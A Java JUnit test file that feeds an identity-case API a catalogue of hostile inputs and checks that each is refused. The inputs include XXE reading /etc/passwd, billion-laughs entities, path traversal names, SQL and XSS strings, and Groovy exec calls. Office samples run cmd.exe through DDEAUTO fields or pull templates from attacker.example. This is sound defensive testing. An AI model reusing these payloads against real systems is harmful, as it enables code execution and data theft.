package dev.attest.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import com.fasterxml.jackson.databind.ObjectMapper;

import dev.attest.AttestTest;
import dev.attest.cases.CaseFile;
import dev.attest.cases.CaseIntake;
import dev.attest.cases.CaseIntakeRequest;
import dev.attest.cases.CaseLookup;
import dev.attest.cases.CaseRequests;
import dev.attest.documents.TestFiles;
import dev.attest.identity.Role;
import dev.attest.identity.RunAs;

/**
 * The hostile-input catalogue: the intake, upload, ownership and designer endpoints are fed a catalogue of bad
 * inputs (oversized and deeply nested JSON, Unicode tricks in names and file names, control characters, wrong
 * types, disguised and empty files, scripts and entities in models) and each must be refused with a 4xx, leaving
 * nothing behind (cases, documents, files, ownership versions, deployments are counted before and after). Text
 * that is merely unusual (SQL or HTML in a description) is accepted as text, stored verbatim and never executed.
 * Prints how many inputs were tried.
 */
@AttestTest
class HostileInputCatalogueTests {

    static final ObjectMapper JSON = new ObjectMapper();

    @Autowired MockMvc mvc;
    @Autowired JdbcTemplate jdbc;
    @Autowired CaseIntake intake;
    @Autowired CaseLookup cases;

    record Attempt(String category, String label, Supplier<MockHttpServletRequestBuilder> request) {
    }

    static String json(Object body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    static MockHttpServletRequestBuilder intakeBody(String body) {
        return post("/api/v1/cases").contentType(MediaType.APPLICATION_JSON).content(body)
                .with(httpBasic("intake", "demo"));
    }

    static MockHttpServletRequestBuilder intakeWith(String path, Object value) {
        return intakeBody(json(CaseRequests.with(path, value)));
    }

    static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    Map<String, Long> counts() throws IOException {
        Map<String, Long> c = new LinkedHashMap<>();
        for (String table : List.of("case_file", "case_document", "document_request", "ownership_version",
                "ACT_RE_DEPLOYMENT", "ACT_RE_PROCDEF", "designer_deployment", "audit_entry", "user_account")) {
            c.put(table, jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class));
        }
        c.put("cases on legal hold", jdbc.queryForObject("SELECT COUNT(*) FROM case_file WHERE legal_hold = TRUE",
                Long.class));
        Path files = Path.of("target", "test-data", "documents");
        try (Stream<Path> s = Files.exists(files) ? Files.walk(files) : Stream.empty()) {
            c.put("document files", s.filter(Files::isRegularFile).count());
        }
        return c;
    }

    List<Attempt> catalogue(String caseRef) {
        List<Attempt> all = new ArrayList<>();
        // intake: size and structure
        all.add(new Attempt("intake", "2 MB JSON body", () -> intakeWith("description", "x".repeat(2_000_000))));
        all.add(new Attempt("intake", "JSON nested 5,000 deep", () -> intakeBody(
                "{\"type\":\"ACCOUNT_RECOVERY_2FA\",\"client\":" + nested(5000) + "}")));
        all.add(new Attempt("intake", "JSON nested 5,000 deep in an unknown field", () -> intakeBody(
                json(CaseRequests.valid()).replaceFirst("\\{", "{\"extra\":" + nested(5000) + ","))));
        all.add(new Attempt("intake", "not JSON", () -> intakeBody("<case/>")));
        all.add(new Attempt("intake", "JSON array instead of object", () -> intakeBody("[]")));
        all.add(new Attempt("intake", "number as name", () -> intakeWith("client.fullName", 12345)));
        all.add(new Attempt("intake", "object as e-mail", () -> intakeWith("client.email", Map.of("a", "b"))));
        all.add(new Attempt("intake", "description of 4,001 characters", () -> intakeWith("description", "d".repeat(4001))));
        // intake: Unicode tricks and control characters in names
        for (var trick : Map.of("right-to-left override", "Jane \u202Erellek", "left-to-right isolate",
                "Jane \u2066Seller", "zero-width space", "Ja\u200Bne Seller", "byte-order mark", "\uFEFFJane Seller",
                "right-to-left mark", "Jane\u200F Seller", "NUL character", "Jane\u0000Seller", "escape sequence",
                "Jane \u001B[31mSeller", "line break in a name", "Jane\nSeller").entrySet()) {
            all.add(new Attempt("intake", trick.getKey() + " in the client's name",
                    () -> intakeWith("client.fullName", trick.getValue())));
        }
        all.add(new Attempt("intake", "right-to-left override in the city", () -> intakeWith("account.addressOnFile.city",
                "San \u202EFrancisco")));
        all.add(new Attempt("intake", "e-mail with a display name and header injection",
                () -> intakeWith("client.email", "jane@seller.example.com\r\nBcc: all@example.com")));
        all.add(new Attempt("intake", "phone number with letters", () -> intakeWith("client.phone", "+1 415 CALL ME")));
        all.add(new Attempt("intake", "country that does not exist", () -> intakeWith("client.country", "XX")));
        all.add(new Attempt("intake", "unknown case type", () -> intakeWith("type", "DROP TABLE")));

        // uploads
        String metadata = "{\"kind\":\"PASSPORT\",\"nameOnDocument\":\"Jane Seller\",\"issuingCountry\":\"US\","
                + "\"expiresOn\":\"2031-01-01\"}";
        byte[] png = TestFiles.png(300, 200);
        for (var name : Map.of("path traversal", "../../etc/passwd.png", "absolute path", "/etc/passport.png",
                "Windows path", "C:\\\\temp\\\\passport.png", "right-to-left override in the name", "passport\u202Egnp.exe",
                "zero-width space in the name", "pass\u200Bport.png", "NUL in the name", "passport.png\u0000.exe",
                "name of 300 characters", "p".repeat(296) + ".png", "dot-dot name", "..").entrySet()) {
            all.add(new Attempt("upload", name.getKey(), () -> multipart("/api/v1/cases/" + caseRef + "/documents")
                    .file(new MockMultipartFile("file", name.getValue(), "image/png", png))
                    .file(new MockMultipartFile("metadata", "", "application/json",
                            metadata.getBytes(StandardCharsets.UTF_8))).with(httpBasic("intake", "demo"))));
        }
        for (var bad : Map.<String, byte[]>of("HTML disguised as PNG", "<html><script>alert(1)</script></html>"
                .getBytes(StandardCharsets.UTF_8), "empty file", new byte[0], "executable disguised as PNG",
                new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0}).entrySet()) {
            all.add(new Attempt("upload", bad.getKey(), () -> multipart("/api/v1/cases/" + caseRef + "/documents")
                    .file(new MockMultipartFile("file", "passport.png", "image/png", bad.getValue()))
                    .file(new MockMultipartFile("metadata", "", "application/json",
                            metadata.getBytes(StandardCharsets.UTF_8))).with(httpBasic("intake", "demo"))));
        }
        for (HostileUpload upload : hostileUploads()) {
            all.add(new Attempt("upload", upload.label(), () -> upload(caseRef, upload.fileName(), upload.bytes())));
        }
        all.add(new Attempt("upload", "metadata with a right-to-left override in the name", () -> multipart(
                "/api/v1/cases/" + caseRef + "/documents").file(new MockMultipartFile("file", "passport.png",
                        "image/png", png)).file(new MockMultipartFile("metadata", "", "application/json",
                        metadata.replace("Jane Seller", "Jane \u202ESeller").getBytes(StandardCharsets.UTF_8)))
                .with(httpBasic("intake", "demo"))));
        all.add(new Attempt("upload", "metadata nested 5,000 deep", () -> multipart("/api/v1/cases/" + caseRef
                + "/documents").file(new MockMultipartFile("file", "passport.png", "image/png", png))
                .file(new MockMultipartFile("metadata", "", "application/json",
                        ("{\"kind\":" + nested(5000) + "}").getBytes(StandardCharsets.UTF_8)))
                .with(httpBasic("intake", "demo"))));

        // ownership
        String ownership = "/api/v1/cases/" + caseRef + "/ownership";
        all.add(new Attempt("ownership", "JSON nested 5,000 deep", () -> put(ownership)
                .contentType(MediaType.APPLICATION_JSON).content("{\"parties\":" + nested(5000) + "}")
                .with(httpBasic("analyst", "demo"))));
        all.add(new Attempt("ownership", "2 MB of parties", () -> put(ownership).contentType(MediaType.APPLICATION_JSON)
                .content("{\"subject\":\"s\",\"parties\":[" + "{\"id\":\"p\",\"kind\":\"PERSON\",\"name\":\"x\"},"
                        .repeat(40_000) + "{}]}").with(httpBasic("analyst", "demo"))));
        all.add(new Attempt("ownership", "negative and over-100 % holdings", () -> put(ownership)
                .contentType(MediaType.APPLICATION_JSON).content("""
                        {"subject":"s","parties":[{"id":"s","kind":"ORGANIZATION","name":"Seller","country":"US"},
                         {"id":"p","kind":"PERSON","name":"Pat","country":"US"}],
                         "holdings":[{"owner":"p","owned":"s","percent":-5},{"owner":"p","owned":"s","percent":250}]}""")
                .with(httpBasic("analyst", "demo"))));
        all.add(new Attempt("ownership", "right-to-left override in an owner's name", () -> put(ownership)
                .contentType(MediaType.APPLICATION_JSON).content("""
                        {"subject":"s","parties":[{"id":"s","kind":"ORGANIZATION","name":"Seller","country":"US"},
                         {"id":"p","kind":"PERSON","name":"Pat \u202Enrut","country":"US"}],
                         "holdings":[{"owner":"p","owned":"s","percent":100}]}""").with(httpBasic("analyst", "demo"))));

        // designer
        for (var model : Map.of("XXE DOCTYPE", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<definitions>&x;</definitions>", "script task", "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/"
                + "BPMN/20100524/MODEL\" id=\"d\"><bpmn:process id=\"P\" isExecutable=\"true\"><bpmn:scriptTask id=\"S\" "
                + "scriptFormat=\"groovy\"/></bpmn:process></bpmn:definitions>", "billion laughs",
                "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions>&b;</definitions>",
                "not XML", "\u0000\u0001binary", "unterminated XML", "<bpmn:definitions").entrySet()) {
            all.add(new Attempt("designer", model.getKey(), () -> multipart("/api/v1/designer/deployments")
                    .file(new MockMultipartFile("file", "model.bpmn", "application/xml",
                            model.getValue().getBytes(StandardCharsets.UTF_8))).with(httpBasic("designer", "demo"))));
        }
        all.add(new Attempt("designer", "1.5 MB model", () -> multipart("/api/v1/designer/deployments")
                .file(new MockMultipartFile("file", "model.bpmn", "application/xml",
                        ("<definitions>" + "<!-- pad -->".repeat(130_000) + "</definitions>")
                                .getBytes(StandardCharsets.UTF_8))).with(httpBasic("designer", "demo"))));
        all.add(new Attempt("designer", "right-to-left override in the file name", () -> multipart(
                "/api/v1/designer/deployments").file(new MockMultipartFile("file", "model\u202Elmx.bpmn",
                        "application/xml", "<definitions/>".getBytes(StandardCharsets.UTF_8)))
                .with(httpBasic("designer", "demo"))));
        all.add(new Attempt("designer", "a Groovy file", () -> multipart("/api/v1/designer/deployments")
                .file(new MockMultipartFile("file", "evil.groovy", "text/plain",
                        "Runtime.getRuntime().exec('id')".getBytes(StandardCharsets.UTF_8)))
                .with(httpBasic("designer", "demo"))));
        // record keeping (ADMIN): the legal hold's reason and the client's erasure request are text like any other
        for (var reason : Map.of("right-to-left override in a legal hold's reason", "Court order \u202Eredro",
                "zero-width space in a legal hold's reason", "Court\u200B order", "legal hold reason of 501 characters",
                "r".repeat(501), "blank legal hold reason", "   ").entrySet()) {
            all.add(new Attempt("record keeping", reason.getKey(), () -> post("/api/v1/cases/" + caseRef
                    + "/legal-hold").contentType(MediaType.APPLICATION_JSON).content(json(Map.of("reason",
                            reason.getValue()))).with(httpBasic("admin", "demo"))));
        }
        all.add(new Attempt("record keeping", "number as a legal hold's reason", () -> post("/api/v1/cases/" + caseRef
                + "/legal-hold").contentType(MediaType.APPLICATION_JSON).content("{\"reason\": 42}")
                .with(httpBasic("admin", "demo"))));
        for (var request : Map.of("erasure request of 151 characters", "e".repeat(151),
                "NUL character in an erasure request", "delete\u0000everything").entrySet()) {
            all.add(new Attempt("record keeping", request.getKey(), () -> post("/api/v1/cases/" + caseRef
                    + "/erasure-requests").contentType(MediaType.APPLICATION_JSON).content(json(Map.of("request",
                            request.getValue()))).with(httpBasic("admin", "demo"))));
        }
        // accounts (ADMIN): names and user names are text like any other
        for (var account : Map.of("right-to-left override in an account's name",
                Map.of("username", "mallory", "displayName", "Mallory \u202Enimda", "roles", List.of("ANALYST")),
                "zero-width space in a user name", Map.of("username", "ad\u200Bmin", "displayName", "Admin Two",
                        "roles", List.of("ADMIN")),
                "SQL in a user name", Map.of("username", "x'; DROP TABLE user_account; --", "displayName", "X",
                        "roles", List.of("ANALYST")),
                "unknown role", Map.of("username", "rooty", "displayName", "Root", "roles", List.of("ROOT")),
                "role as a number", Map.of("username", "numbery", "displayName", "Numbers", "roles", List.of(1))
        ).entrySet()) {
            all.add(new Attempt("accounts", account.getKey(), () -> post("/api/v1/users")
                    .contentType(MediaType.APPLICATION_JSON).content(json(account.getValue()))
                    .with(httpBasic("admin", "demo"))));
        }
        return all;
    }

    /** An upload carrying active content, and the words its refusal must contain. */
    record HostileUpload(String label, String fileName, byte[] bytes, String reason) {
    }

    /** One upload per family of active content that issue 16 found accepted. */
    static List<HostileUpload> hostileUploads() {
        String dde = "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/></w:p>";
        return List.of(
                new HostileUpload("PDF with an XFA form carrying a script", "statement.pdf", TestFiles.pdfWithXfa(),
                        "XFA form"),
                new HostileUpload("PDF whose page opens a remote file over UNC (GoToR)", "statement.pdf",
                        TestFiles.pdfWithRemoteGoTo(), "opens another file (GoToR)"),
                new HostileUpload("PDF whose link submits a form", "statement.pdf", TestFiles.pdfWithSubmitForm(),
                        "submits a form"),
                new HostileUpload("PDF with JavaScript in a compressed object stream", "statement.pdf",
                        TestFiles.compressedPdfWithJavaScript(), "runs JavaScript (document OpenAction)"),
                new HostileUpload("PDF with a JavaScript name tree", "statement.pdf",
                        TestFiles.pdfWithJavaScriptNameTree(), "JavaScript"),
                new HostileUpload("PDF with a launching bookmark", "statement.pdf", TestFiles.pdfWithLaunchingBookmark(),
                        "launches a program"),
                new HostileUpload("PDF with an embedded file", "statement.pdf", TestFiles.pdfWithEmbeddedFile(),
                        "embedded file"),
                new HostileUpload("DOCX with a remote template", "letter.docx", TestFiles.docx(Map.of(
                        "word/settings.xml", "<w:settings xmlns:w=\"" + W + "\"/>", "word/_rels/settings.xml.rels",
                        rels("attachedTemplate", "\\\\attacker.example\\t.dotm", "External"))),
                        "from outside the document"),
                new HostileUpload("DOCX with an external image", "letter.docx", TestFiles.docx(Map.of(
                        "word/_rels/document.xml.rels", rels("image", "http://attacker.example/a.png", "external "))),
                        "from outside the document"),
                new HostileUpload("DOCX with a DDEAUTO field", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
                        TestFiles.body(dde))), "runs a DDE command"),
                new HostileUpload("DOCX with a DDEAUTO field split across runs", "letter.docx", TestFiles.docx(Map.of(
                        "word/document.xml", TestFiles.body(TestFiles.splitField("DDE", "AUTO calc")))),
                        "runs a DDE command"),
                new HostileUpload("DOCX with a renamed VBA part declared in UTF-16 content types", "letter.docx",
                        TestFiles.docx(Map.of("word/fonts.dat", TestFiles.doc(true), "[Content_Types].xml",
                                TestFiles.utf16(TestFiles.CONTENT_TYPES.replace("</Types>", "<Override PartName=\""
                                        + "/word/fonts.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                                        + "</Types>")))), "macros"),
                new HostileUpload("DOC with a macro storage", "letter.doc", TestFiles.doc(true), "contains macros"),
                new HostileUpload("DOC with embedded objects", "letter.doc", TestFiles.ole2(true, "ObjectPool", "_1",
                        "\u0001Ole10Native"), "embedded objects"),
                new HostileUpload("any OLE2 file named .doc", "letter.doc", TestFiles.ole2(false),
                        "not a Word document"),
                new HostileUpload("DOC with a DDEAUTO field in its text", "letter.doc", TestFiles.wordDocWithText(
                        "\u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \u0015", true, null),
                        "runs a DDE command"),
                new HostileUpload("DOC with its template on a file share", "letter.doc", TestFiles.wordDocWithText(
                        "Hello", true, "\\\\attacker.example\\share\\t.dot"), "from outside the document"),
                new HostileUpload("DOCX whose header part is not named .xml and starts with white space", "letter.docx",
                        TestFiles.docx(Map.of("[Content_Types].xml", TestFiles.CONTENT_TYPES.replace("</Types>",
                                "<Override PartName=\"/word/h.dat\" ContentType=\"application/vnd.openxmlformats-"
                                + "officedocument.wordprocessingml.header+xml\"/></Types>"), "word/_rels/document.xml.rels",
                                TestFiles.rels("<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/"
                                        + "officeDocument/2006/relationships/header\" Target=\"h.dat\"/>"), "word/h.dat",
                                "\n".repeat(16) + "<w:hdr xmlns:w=\"" + W + "\">" + dde + "</w:hdr>")), "runs a DDE command"),
                new HostileUpload("DOCX with a HYPERLINK field to a file share", "letter.docx", TestFiles.docx(Map.of(
                        "word/document.xml", TestFiles.body("<w:p><w:fldSimple w:instr=\"HYPERLINK &quot;\\\\\\\\"
                                + "attacker.example\\\\s\\\\x.docx&quot;\"/></w:p>"))), "not a web or mail address"),
                new HostileUpload("PDF whose object stream inflates to 4 GiB", "statement.pdf",
                        TestFiles.pdfWithObjectStreamBomb(4L << 30), "decodes to more than"));
    }

    static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    static String rels(String type, String target, String mode) {
        return TestFiles.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                + "2006/relationships/" + type + "\" Target=\"" + target + "\" TargetMode=\"" + mode + "\"/>");
    }

    static MockHttpServletRequestBuilder upload(String caseRef, String fileName, byte[] bytes) {
        String metadata = "{\"kind\":\"PROOF_OF_ADDRESS\",\"nameOnDocument\":\"Jane Seller\"}";
        return multipart("/api/v1/cases/" + caseRef + "/documents")
                .file(new MockMultipartFile("file", fileName, "application/octet-stream", bytes))
                .file(new MockMultipartFile("metadata", "", "application/json", metadata.getBytes(StandardCharsets.UTF_8)))
                .with(httpBasic("intake", "demo"));
    }

    @Test
    void everyUploadWithActiveContentIs415NamingTheReasonAndStoresNothing() throws Exception {
        CaseFile target = RunAs.user("intake", () -> intake.open(JSON.convertValue(CaseRequests.valid(),
                CaseIntakeRequest.class)), Role.INTAKE);
        Map<String, Long> before = counts();
        for (HostileUpload upload : hostileUploads()) {
            var response = mvc.perform(upload(target.getReference(), upload.fileName(), upload.bytes())).andReturn()
                    .getResponse();
            assertThat(response.getStatus()).as(upload.label() + ": " + response.getContentAsString()).isEqualTo(415);
            assertThat(response.getContentAsString(StandardCharsets.UTF_8)).as(upload.label()).contains(upload.reason());
        }
        assertThat(counts()).as("nothing stored").isEqualTo(before);
    }

    @Test
    void aNulInAFileNameIsA400NamingTheField() throws Exception {
        CaseFile target = RunAs.user("intake", () -> intake.open(JSON.convertValue(CaseRequests.valid(),
                CaseIntakeRequest.class)), Role.INTAKE);
        Map<String, Long> before = counts();
        var response = mvc.perform(upload(target.getReference(), "passport.png\u0000.exe", TestFiles.png(300, 200)))
                .andReturn().getResponse();
        assertThat(response.getStatus()).isEqualTo(400);
        assertThat(response.getContentAsString()).contains("\"field\":\"file\"").contains("NUL");
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void everyHostileInputIsRefusedAndLeavesNothingBehind() throws Exception {
        CaseFile target = RunAs.user("intake", () -> intake.open(JSON.convertValue(CaseRequests.valid(),
                CaseIntakeRequest.class)), Role.INTAKE);
        List<Attempt> catalogue = catalogue(target.getReference());
        Map<String, Long> before = counts();
        List<String> accepted = new ArrayList<>();
        Map<String, Integer> perCategory = new LinkedHashMap<>();
        for (Attempt a : catalogue) {
            int status = mvc.perform(a.request().get()).andReturn().getResponse().getStatus();
            if (status < 400 || status >= 500) {
                accepted.add(a.category() + ": " + a.label() + " → " + status);
            }
            perCategory.merge(a.category(), 1, Integer::sum);
        }
        assertThat(accepted).as("inputs not refused with a 4xx").isEmpty();
        assertThat(counts()).as("nothing left behind").isEqualTo(before);
        System.out.printf("Hostile input catalogue: %d inputs tried (%s), none accepted, nothing left behind%n",
                catalogue.size(), perCategory);
    }

    @Test
    void sqlAndHtmlInTextAreStoredVerbatimAndNeverRun() throws Exception {
        String sql = "'); DROP TABLE case_file; --";
        String html = "<img src=x onerror=alert(1)><script>alert(2)</script>";
        var body = CaseRequests.with("description", sql + " " + html);
        int status = mvc.perform(intakeBody(json(body))).andReturn().getResponse().getStatus();
        assertThat(status).isEqualTo(201);
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM case_file", Long.class)).isPositive();
        String stored = jdbc.queryForObject("SELECT description FROM case_file WHERE description LIKE ?",
                String.class, "%DROP TABLE%");
        assertThat(stored).isEqualTo(sql + " " + html);
    }
}
